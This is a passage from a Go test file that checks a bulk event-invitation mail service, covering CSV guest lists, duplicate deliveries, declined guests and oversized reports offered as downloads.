			t.Error("somebody was invited to another's event")
		}
	})
	t.Run("events of several organizers in one list", func(t *testing.T) {
		s := s.on(t)
		h, other := s.host(), s.host()
		second := tea(h.Address)
		second.Key = "second"
		own := s.register(second)
		_, rows := h.settled(h.mailFiles("Guests", attached{"a.csv", "text/csv", []byte("uid,email\n" + strings.ToUpper(h.uid) + "," + guest(h) + "\n" + other.uid + "," + guest(h) + "\n" + own + "," + guest(h) + "\n")}))
		h.expect(rows, map[int]outcome{2: {"", guest(h), "sent", ""}, 3: {other.uid, guest(h), "invalid", "unknown-event"}, 4: {own, guest(h), "sent", ""}})
		if n := s.sentTo(guest(h)); n != 2 {
			t.Errorf("%d invitations to two events", n)
		}
	})
	t.Run("the same mail twice", func(t *testing.T) {
		h := s.on(t).host()
		h.mails = h.sentTo(h.Email)
		raw := h.compose(h.uid, good(h))
		for _, want := range []string{bulk.Sent, bulk.Already} {
			h.mails = h.sentTo(h.Email)
			_, rows := h.settled(h.WaitExecution("bulk-invites", h.SendMail(h.Email, lists, raw)))
			h.expect(rows, map[int]outcome{2: {"", guest(h), want, ""}})
		}
		if n := h.sentTo(guest(h)); n != 1 {
			t.Errorf("%d invitations", n)
		}
	})
	t.Run("delivered twice, started again", func(t *testing.T) {
		h := s.on(t).host()
		if err := h.Faults.Add(aws.Fault{Function: "receive-mail", Action: "lambda:Invoke", Kind: "twice"}); err != nil {
			t.Fatal(err)
		}
		x := h.mailFiles(h.uid, good(h))
		h.Faults.Clear()
		h.settled(x)
		mails := len(h.Sent(""))
		again := h.startAgain("bulk-invites", x)
		h.endsIn(again, "ListSettled")
		if got := len(h.Sent("")); got != mails { // the report was sent for this mail before
			t.Errorf("%d more mails", got-mails)
		}
		if n := h.sentTo(guest(h)); n != 1 {
			t.Errorf("%d invitations", n)
		}
	})
	t.Run("a guest who declined is not asked again", func(t *testing.T) {
		h := s.on(t).host()
		h.settled(h.mailFiles(h.uid, good(h)))
		h.reply(h.WaitSent(guest(h), 1)[0].Raw, guest(h), imiptest.Reply{Client: imiptest.Gmail, Answer: imiptest.Declined, At: time.Now()})
		_, rows := h.settled(h.mailFiles(h.uid, good(h)))
		h.expect(rows, map[int]outcome{2: {"", guest(h), "already", ""}})
	})
	t.Run("a report too large for a mail is fetched", func(t *testing.T) {
		if testing.Short() {
			t.Skip("-short: 50,000 rows")
		}
		h := s.on(t).host()
		const bad = 50_000
		x := h.mailCSV("email\n" + guest(h) + "\n" + strings.Repeat("an address that is rather long and no address at all\n", bad))
		h.endsIn(x, "ListSettled")
		mail := h.WaitSent(h.Email, h.mails+1)[h.mails].Raw
		if lines := strings.Count(h.downloads(linkIn(t, mail, "/download/")), "\n"); lines != bad+2 {
			t.Errorf("the file has %d lines", lines)
		}
	})
}
